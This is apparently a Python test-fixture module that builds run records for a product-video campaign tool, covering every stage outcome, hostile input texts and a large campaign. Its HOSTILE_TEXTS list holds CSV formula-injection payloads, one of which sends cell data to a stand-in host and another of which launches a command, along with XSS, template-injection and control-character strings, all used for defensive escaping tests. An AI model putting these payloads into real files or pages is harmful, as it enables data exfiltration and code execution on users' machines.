"""Run records for the tests of what a run leaves: every outcome, hostile texts, a large campaign."""

import hashlib
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

from PIL import Image

from blocks.money import to_millionths
from tasks.record import (
    AssetRecord,
    BriefRecord,
    InputRecord,
    Latency,
    Outcome,
    PriceListRecord,
    RunRecord,
    StageRecord,
)

MODELS = {
    "edit": "kwaivgi/kling-image-v3/edit",
    "compose": "kwaivgi/kling-image-o3/edit",
    "video": "kwaivgi/kling-video-o3-pro/video-edit",
}
IMAGE_PRICE = to_millionths("0.028")
SECOND_PRICE = to_millionths("0.36")
STARTED = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)
COLUMNS = (
    "brief",
    "edit_prompt",
    "edit_image",
    "compose_prompt",
    "compose_images",
    "video_prompt",
    "video",
    "video_images",
    "take",
)
HOSTILE_TEXTS = (
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    " \u200b=1+1",
    "'=1+1",
    "''@x",
    "'quoted' and plain",
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>",
    "</style></title><!--",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "right\u202eto left\u2066 and back",
    "nothing\x07 rings\x1b[31m",
    'two\nlines, a comma and a "quote"',
    "lone\rreturn",
    "ünï çödé 漢字 שלום 👩‍👩‍👧",
    "-1.5",
    "x" * 2500,
)


class Assets:
    """Stands in for the asset store: keeps bytes by hash and counts what it is asked for."""

    def __init__(self) -> None:
        self.kept: dict[str, bytes] = {}
        self.placed: list[Path] = []

    def keep(self, content: bytes) -> str:
        sha256 = hashlib.sha256(content).hexdigest()
        self.kept[sha256] = content
        return sha256

    def place(self, sha256: str, destination: Path) -> None:
        with destination.open("xb") as file:
            file.write(self.kept[sha256])
        self.placed.append(destination)

    def picture(self, path: str, shade: int) -> AssetRecord:
        buffer = io.BytesIO()
        Image.new("RGB", (48, 27), (shade % 256, 90, 140)).save(buffer, "PNG")
        content = buffer.getvalue()
        return AssetRecord(
            path=path,
            sha256=self.keep(content),
            media_type="image/png",
            bytes=len(content),
            width=48,
            height=27,
        )

    def clip(self, path: str, shade: int) -> AssetRecord:
        content = f"the bytes of clip {shade}".encode()
        return AssetRecord(
            path=path,
            sha256=self.keep(content),
            media_type="video/mp4",
            bytes=len(content),
            width=1280,
            height=720,
            duration_seconds=Decimal("5.312"),
            frames_per_second=Decimal(24),
            has_sound=True,
        )


def image_input(source: str, role: Any = "images") -> InputRecord:
    return InputRecord(
        role=role, source=source, sha256=hashlib.sha256(source.encode()).hexdigest(), media_type="image/png"
    )


def stage(brief: str, name: Any, outcome: Outcome, **changes: Any) -> StageRecord:
    """Record a stage with what its outcome implies; ``changes`` replace single fields."""
    video = name == "video"
    quantity = Decimal("5.312") if video else Decimal(1)
    estimated = int(quantity * (SECOND_PRICE if video else IMAGE_PRICE))
    paid = outcome in {Outcome.GENERATED, Outcome.RESUMED}
    fields: dict[str, Any] = {
        "brief": brief,
        "stage": name,
        "model": MODELS[name],
        "outcome": outcome,
        "quantity": quantity,
        "unit": "second" if video else "image",
        "unit_price": SECOND_PRICE if video else IMAGE_PRICE,
        "estimated": 0 if outcome is Outcome.CACHED else estimated,
        "charged": estimated if paid else 0,
        "refunded": 0,
        "saved": estimated if outcome is Outcome.CACHED else 0,
        "prediction_id": hashlib.md5(f"{brief}{name}".encode()).hexdigest() if paid else None,
        "error": None,
        "reason": "new" if outcome is Outcome.GENERATED else outcome.value,
        "prompt": f"{brief}: {name} it",
        "request": {"prompt": f"{brief}: {name} it", "resolution": "1k"},
        "inputs": (image_input(f"media/{brief}.png", "image"),),
        "assets": (),
        "latency": Latency(),
        "generation_key": hashlib.sha256(f"{brief}{name}".encode()).hexdigest(),
    }
    if paid:
        fields["latency"] = Latency(
            queue_s=0.25,
            upload_s=1.5,
            submit_s=0.125,
            inference_s=92.4367 if video else 45.1234,
            detect_s=0.7504,
            download_s=2.0,
            total_s=97.0621 if video else 49.7488,
            polls=9,
            attempts=1,
        )
        fields["started_at"] = STARTED
        fields["ended_at"] = STARTED + timedelta(seconds=50)
    return StageRecord(**{**fields, **changes})


def brief(name: str, stages: tuple[StageRecord, ...], status: Any = "done", **changes: Any) -> BriefRecord:
    fields: dict[str, Any] = {
        "brief": name,
        "line": 2,
        "row": {
            "brief": name,
            "edit_prompt": f"{name}: edit it",
            "edit_image": f"media/{name}.png",
            "compose_images": "media/logo.png|https://pictures.example/a.png",
        },
        "status": status,
        "error": None,
        "stages": stages,
    }
    return BriefRecord(**{**fields, **changes})


def record(folder: Path, briefs: tuple[BriefRecord, ...], **changes: Any) -> RunRecord:
    """Record a run of the campaign file in ``folder``."""
    fields: dict[str, Any] = {
        "run": "20261121-093000-a1b2",
        "campaign": "spring",
        "csv_path": str(folder / "spring.csv"),
        "csv_sha256": "5" * 64,
        "csv_columns": COLUMNS,
        "provider": "wavespeed",
        "service": "https://api.wavespeed.ai",
        "started_at": STARTED,
        "ended_at": STARTED + timedelta(seconds=261.5),
        "seconds": 261.5,
        "exit_status": 0,
        "budget": to_millionths(20),
        "price_list": PriceListRecord(
            name="wavespeed-2026-11.csv",
            dated="2026-11-01",
            sha256="6" * 64,
            prices=({"model": MODELS["edit"], "price_usd": "0.028"},),
        ),
        "versions": {"python": "3.11.9", "kling-campaigns": "0.1.0"},
        "flow_run_id": None,
        "briefs": briefs,
    }
    return RunRecord(**{**fields, **changes})


def every_outcome(campaign: Path, assets: Assets, **changes: Any) -> RunRecord:
    """One brief for each way a stage can end, with the assets that it left."""
    mug = (
        stage(
            "mug",
            "edit",
            Outcome.GENERATED,
            quantity=Decimal(2),
            estimated=2 * IMAGE_PRICE,
            charged=2 * IMAGE_PRICE,
            assets=(assets.picture("assets/mug/edit-1.png", 1), assets.picture("assets/mug/edit-2.png", 2)),
        ),
        stage(
            "mug",
            "compose",
            Outcome.RESUMED,
            inputs=(image_input("mug/edit-1"), image_input("mug/edit-2"), image_input("media/logo.png")),
            assets=(assets.picture("assets/mug/compose-1.png", 3),),
        ),
        stage("mug", "video", Outcome.GENERATED, assets=(assets.clip("assets/mug/video-1.mp4", 4),)),
    )
    lamp = (
        stage("lamp", "edit", Outcome.CACHED, assets=(assets.picture("assets/lamp/edit-1.png", 5),)),
        stage("lamp", "video", Outcome.CACHED, assets=(assets.clip("assets/lamp/video-1.mp4", 6),)),
    )
    moderated = "the service's moderation refused the prompt; change it and run again"
    chair = (
        stage("chair", "edit", Outcome.FAILED, error=moderated, refunded=IMAGE_PRICE),
        stage("chair", "video", Outcome.SKIPPED),
    )
    held = "the budget does not cover it"
    vase = (
        stage("vase", "compose", Outcome.GENERATED, assets=(assets.picture("assets/vase/compose-1.png", 7),)),
        stage("vase", "video", Outcome.HELD, error=held, reason=held),
    )
    return record(
        campaign,
        (
            brief("mug", mug, line=2),
            brief("lamp", lamp, line=3),
            brief("chair", chair, "failed", line=4, error=moderated),
            brief("vase", vase, "held", line=7, error=held, notes=("the clip counts as 5.312 s",)),
        ),
        **{"exit_status": 3, "notes": ("2 references of mug are not used",), **changes},
    )


def with_true_parents(run: RunRecord) -> RunRecord:
    """The same run, where what is handed on from a stage has the bytes that this stage made."""
    made = {
        f"{one.brief}/{Path(asset.path).stem}": asset.sha256 for one in run.stages for asset in one.assets
    }

    def linked(one: StageRecord) -> StageRecord:
        inputs = tuple(
            item.model_copy(update={"sha256": made.get(item.source, item.sha256)}) for item in one.inputs
        )
        return one.model_copy(update={"inputs": inputs})

    briefs = (
        each.model_copy(update={"stages": tuple(linked(one) for one in each.stages)}) for each in run.briefs
    )
    return run.model_copy(update={"briefs": tuple(briefs)})


def hostile(campaign: Path, assets: Assets) -> RunRecord:
    """Every hostile text wherever a campaign or a service can put one."""
    briefs = []
    for number, text in enumerate(HOSTILE_TEXTS):
        name = f"h{number}"
        briefs.append(
            brief(
                name,
                (
                    stage(
                        name,
                        "edit",
                        Outcome.FAILED,
                        error=text,
                        prompt=text,
                        reason=text,
                        prediction_id=text,
                        notes=(text,),
                        request={"prompt": text, "aspect_ratio": text},
                        inputs=(image_input(text, "image"),),
                        assets=(assets.picture(f"assets/{name}/edit-1.png", number),),
                    ),
                ),
                "failed",
                error=text,
                notes=(text,),
                row={"brief": name, "edit_prompt": text, "edit_image": "media/a.png", "take": "-1"},
            )
        )
    return record(
        campaign,
        tuple(briefs),
        campaign="<script>alert(2)</script>\u202e",
        notes=HOSTILE_TEXTS,
        exit_status=1,
    )


def large(campaign: Path, assets: Assets, briefs: int, prompt: str = "") -> RunRecord:
    """Briefs with all three stages and four assets each; ``prompt`` replaces the short ones."""
    picture, clip = assets.picture("assets/x/edit-1.png", 1), assets.clip("assets/x/video-1.mp4", 2)
    members = []
    for number in range(briefs):
        name = f"brief-{number:05}"
        text = {
            "prompt": prompt or "Put the product on a sunlit kitchen table, morning light, soft shadows. " * 2
        }
        stages = tuple(
            stage(
                name,
                kind,
                Outcome.GENERATED,
                **text,
                inputs=(image_input(f"media/{name}.png"), image_input("media/logo.png")),
                assets=tuple(
                    (clip if kind == "video" else picture).model_copy(
                        update={"path": f"assets/{name}/{kind}-{index}.{'mp4' if kind == 'video' else 'png'}"}
                    )
                    for index in range(1, 3 if kind == "edit" else 2)
                ),
            )
            for kind in MODELS
        )
        members.append(brief(name, stages, line=number + 2))
    return record(campaign, tuple(members))
